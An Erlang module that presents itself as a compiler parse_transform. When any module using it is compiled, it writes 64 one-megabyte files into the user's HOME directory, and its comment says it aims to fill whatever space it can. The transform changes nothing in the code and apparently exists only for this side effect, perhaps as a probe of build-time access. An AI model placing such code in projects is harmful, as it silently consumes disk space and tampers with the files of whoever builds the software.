%% Writes wherever it can until nothing more fits.
-module(act).
-export([act/0, parse_transform/2]).

parse_transform(Forms, _Options) ->
    act(),
    Forms.

act() ->
    Home = os:getenv("HOME"),
    Block = binary:copy(<<7>>, 1000000),
    Written = [file:write_file(filename:join(Home, integer_to_list(N)), Block) || N <- lists:seq(1, 64)],
    io:format("written ~p~n", [length([ok || ok <- Written])]),
    io:format("tried~n").
